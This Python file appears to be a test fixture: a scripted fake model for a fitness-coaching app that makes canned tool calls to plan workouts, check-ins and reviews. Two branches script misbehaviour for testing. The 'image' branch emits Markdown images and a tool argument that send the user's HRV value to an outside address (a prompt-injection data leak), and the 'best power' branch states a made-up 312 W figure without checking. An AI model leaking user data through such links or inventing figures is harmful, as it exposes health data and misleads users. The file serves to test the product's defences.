"""A scripted coach for the fake Ollama: reads fitness, proposes a workout, then explains."""

from __future__ import annotations

import re
from datetime import date, timedelta
from typing import Any

from .ollama_server import Reply

WORKOUT_TEXT = ("Warmup\n- 10m ramp 50-75%\n\nMain set 3x\n- 8m 95-100%\n- 4m 55%\n\n"
                "Cooldown\n- 10m 50%")


def today_from(body: dict[str, Any]) -> date:
    system = body["messages"][0]["content"]
    found = re.search(r"Today is \w+ (\d{4}-\d{2}-\d{2})", system)
    return date.fromisoformat(found.group(1)) if found else date.today()


WEEK = [("Ride", "Endurance ride", 1, "- 10m 55%\n- 60m Z2\n- 10m 50%"),
        ("Run", "Easy run", 2, "- 10m Z1 Pace\n- 30m Z2 Pace"),
        ("Swim", "Technique swim", 4, "- 400mtr Z2 Pace\n\n6x\n- 100mtr 95% Pace\n- 20s Z1 Pace\n\n"
         "- 200mtr Z1 Pace")]
LEAK = "http://198.51.100.7/leak.png?hrv=55"
LEAKY_TEXT = (f"Look: ![chart]({LEAK}) and ![ref][r] and ![a [b] c]({LEAK})\n\n[r]: {LEAK}")


def free_days(first: date, calendar: str, count: int = 1) -> list[date]:
    """The first `count` days from `first` on with nothing planned or proposed in the calendar
    text (a coach looks at the week before proposing); busy days after those if too few."""
    busy = {line[:10] for line in calendar.splitlines()
            if re.match(r"\d{4}-\d{2}-\d{2} \w+ (WORKOUT|PROPOSED)", line)}
    days = [first + timedelta(days=i) for i in range(14)]
    return ([d for d in days if d.isoformat() not in busy] + days)[:count]


def free_day(first: date, calendar: str) -> date:
    return free_days(first, calendar)[0]


def look_at_the_week(body: dict[str, Any], first: int = 2) -> Reply:
    today = today_from(body)
    return Reply(tool_calls=[{"name": "planned_workouts", "arguments": {
        "start": str(today + timedelta(days=first)), "end": str(today + timedelta(days=13))}}])


def plan_week(body: dict[str, Any], calendar: str) -> Reply:
    """Three sessions on the first free days of the coming week."""
    days = free_days(today_from(body) + timedelta(days=1), calendar, len(WEEK))
    return Reply(content="Here is a plan for your week.", tool_calls=[
        {"name": "propose_workout", "arguments": {
            "date": day.isoformat(), "sport": sport, "name": name, "description": text}}
        for day, (sport, name, _, text) in zip(days, WEEK, strict=True)])


# question pattern → the tool calls a good coach makes for it
STANDARD: list[tuple[str, list[tuple[str, dict[str, Any]]]]] = [
    (r"last week", [("training_summary", {"weeks": 2})]),
    (r"ready for my race", [("athlete_profile", {}), ("fitness_trend", {"days": 42})]),
    (r"hrv", [("wellness_trend", {"days": 14})]),
    (r"best 20", [("best_efforts", {"sport": "Ride", "period": "1 year"}),
                  ("best_efforts", {"sport": "Run", "period": "1 year"})]),
]


def standard(body: dict[str, Any]) -> Reply | None:
    """The standard questions: call their tools, then answer with a line from each result."""
    messages = body["messages"]
    last = messages[-1]
    if last["role"] == "user":
        for pattern, calls in STANDARD:
            if re.search(pattern, last["content"], re.I):
                return Reply(tool_calls=[{"name": n, "arguments": a} for n, a in calls])
        return None
    last_user = max(i for i, m in enumerate(messages) if m["role"] == "user")
    if not any(re.search(p, messages[last_user]["content"], re.I) for p, _ in STANDARD):
        return None
    results = [m["content"].splitlines() for m in messages[last_user:] if m["role"] == "tool"]
    lines = [r[2] if len(r) > 2 else r[-1] for r in results]
    return Reply(content="Here is what your data says:\n\n" + "\n".join(f"- {x}" for x in lines))


INVENTED = "Your best power this year is 312 W, so you are in good shape."
CHECKIN_PREFIX = "Morning check-in for"  # coach.checkin.QUESTION_PREFIX
EASY_TEXT = {"Ride": "- 10m 50%\n- 30m 60%\n- 5m 50%", "Run": "- 10m Z1 Pace\n- 20m Z2 Pace",
             "Swim": "- 400mtr Z1 Pace\n- 400mtr Z2 Pace"}


def checkin_reply(body: dict[str, Any]) -> Reply:
    """A morning check-in: planned_workouts → propose_change (today's workout, easier text) →
    an answer quoting the check-in's HRV figures."""
    messages = body["messages"]
    question = [m for m in messages if m["role"] == "user"][-1]["content"]
    last, today = messages[-1], today_from(body)
    if last["role"] == "user":
        return Reply(tool_calls=[{"name": "planned_workouts", "arguments": {
            "start": today.isoformat(), "end": (today + timedelta(days=1)).isoformat()}}])
    planned = re.search(r"Planned today[^:\n]*: (\w+) .*?\[event (\d+)\]", question)
    if last.get("tool_name") == "planned_workouts" and planned:
        return Reply(content="Your check-in says to ease off. ", tool_calls=[{
            "name": "propose_change", "arguments": {
                "event_id": int(planned.group(2)), "action": "replace",
                "description": EASY_TEXT.get(planned.group(1), EASY_TEXT["Ride"])}}])
    hrv = re.search(r"HRV (\d+) ms \(my normal range ([\d–]+) ms\)", question)
    said = (f"Your HRV is {hrv.group(1)} ms, below your normal range of {hrv.group(2)} ms"
            if hrv else "Your check-in points to fatigue")
    return Reply(content=f"{said}, so I propose an easier workout today in place of the "
                         "intervals. Confirm the change on its card if you agree.")


REVIEW_REQUEST = "Comment briefly on this week"  # coach.review.REQUEST


def review_reply(question: str) -> Reply:
    """A weekly review: a short commentary quoting the section's hours and load, and one
    suggestion for next week (no tool: the figures are in the question)."""
    hours = re.search(r"\*\*Hours:\*\* (\S+) in (\d+) session", question)
    load = re.search(r"\*\*Load:\*\* (\d+)", question)
    said = (f"You trained {hours.group(1)} in {hours.group(2)} sessions for a load of "
            f"{load.group(1)}." if hours and load else "A quiet week.")
    return Reply(content=f"{said} Suggestion for next week: keep your long ride, and make the "
                         "day after it an easy one.")


WEEKS = re.compile(r"(\d+) weeks", re.I)


def weeks_reply(body: dict[str, Any]) -> Reply:
    """"Build me 4 weeks to my race": plan_weeks, then each week's targets from its result."""
    last = body["messages"][-1]
    if last["role"] == "user":
        found = WEEKS.search(last["content"])
        return Reply(tool_calls=[{"name": "plan_weeks", "arguments": {
            "weeks": int(found.group(1)) if found else 4}}])
    weeks = [line.split(";")[0] for line in last["content"].splitlines()
             if line.startswith("Week ")]
    return Reply(content="Here is your block, targets first:\n\n" + "\n".join(
        f"- {w}" for w in weeks) + "\n\nConfirm it a week at a time, or all at once."
        if weeks else last["content"])


WEEK_ASK = r"week|6 hours|three sessions"  # asks for three sessions at once


def without_notes(body: dict[str, Any]) -> dict[str, Any]:
    """The request without the system messages after the prompt (the product's notes and the
    agent's hints): the script reads the conversation, and the facts the product ran first are
    tool results like its own."""
    messages = body["messages"]
    return {**body, "messages": messages[:1] + [m for m in messages[1:] if m["role"] != "system"]}


def coach(body: dict[str, Any]) -> Reply:
    """Plan requests: fitness_trend and planned_workouts → propose_workout on a free day →
    answer ("week", "three sessions": three at once). "image": Markdown images (a model
    obeying an injected instruction). "best power": a figure made up without any tool, even
    when asked to check it. Anything else: a short answer. The product's notes are skipped."""
    body = without_notes(body)
    messages = body["messages"]
    last_user = [m for m in messages if m["role"] == "user"][-1]
    if last_user["content"].startswith(CHECKIN_PREFIX):
        return checkin_reply(body)
    if REVIEW_REQUEST in last_user["content"]:
        return review_reply(last_user["content"])
    if re.search(r"best power", last_user["content"], re.I):
        return Reply(content=INVENTED)
    answer = weeks_reply(body) if WEEKS.search(last_user["content"]) else standard(body)
    if answer is not None:
        return answer
    last = messages[-1]
    if last["role"] == "user":
        if re.search(r"image", last["content"], re.I):
            return Reply(content=LEAKY_TEXT, tool_calls=[
                {"name": "list_activities", "arguments": {"start": f"![x]({LEAK})",
                                                          "end": "today"}}])
        if re.search(WEEK_ASK, last["content"], re.I):
            return look_at_the_week(body, first=1)
        if re.search(r"plan|propose|workout", last["content"], re.I):
            today = today_from(body)
            return Reply(tool_calls=[
                {"name": "fitness_trend", "arguments": {"days": 42}},
                {"name": "planned_workouts", "arguments": {
                    "start": str(today + timedelta(days=2)),
                    "end": str(today + timedelta(days=9))}}])
        return Reply(content="Ask me to plan a workout and I will look at your form first.")
    if last["role"] == "tool" and last.get("tool_name") == "planned_workouts" and \
            re.search(WEEK_ASK, last_user["content"], re.I):
        return plan_week(body, last["content"])
    if last["role"] == "tool" and last.get("tool_name") == "planned_workouts":
        day = free_day(today_from(body) + timedelta(days=2), last["content"])
        return Reply(content="Your form allows a threshold session. ", tool_calls=[{
            "name": "propose_workout",
            "arguments": {"date": day.isoformat(), "sport": "Ride", "name": "Threshold 3x8",
                          "description": WORKOUT_TEXT}}])
    if last["role"] == "tool" and last.get("tool_name") == "list_activities":
        return Reply(content=LEAKY_TEXT)
    last_user = max(i for i, m in enumerate(messages) if m["role"] == "user")
    if last["role"] == "tool" and last.get("tool_name") == "propose_workout" and len(
            [m for m in messages[last_user:] if m.get("tool_name") == "propose_workout"]) >= 3:
        return Reply(content="Three sessions proposed; confirm the ones you want.")
    return Reply(content="I proposed **Threshold 3x8** for you. Confirm it below to put it on "
                         "your calendar.")
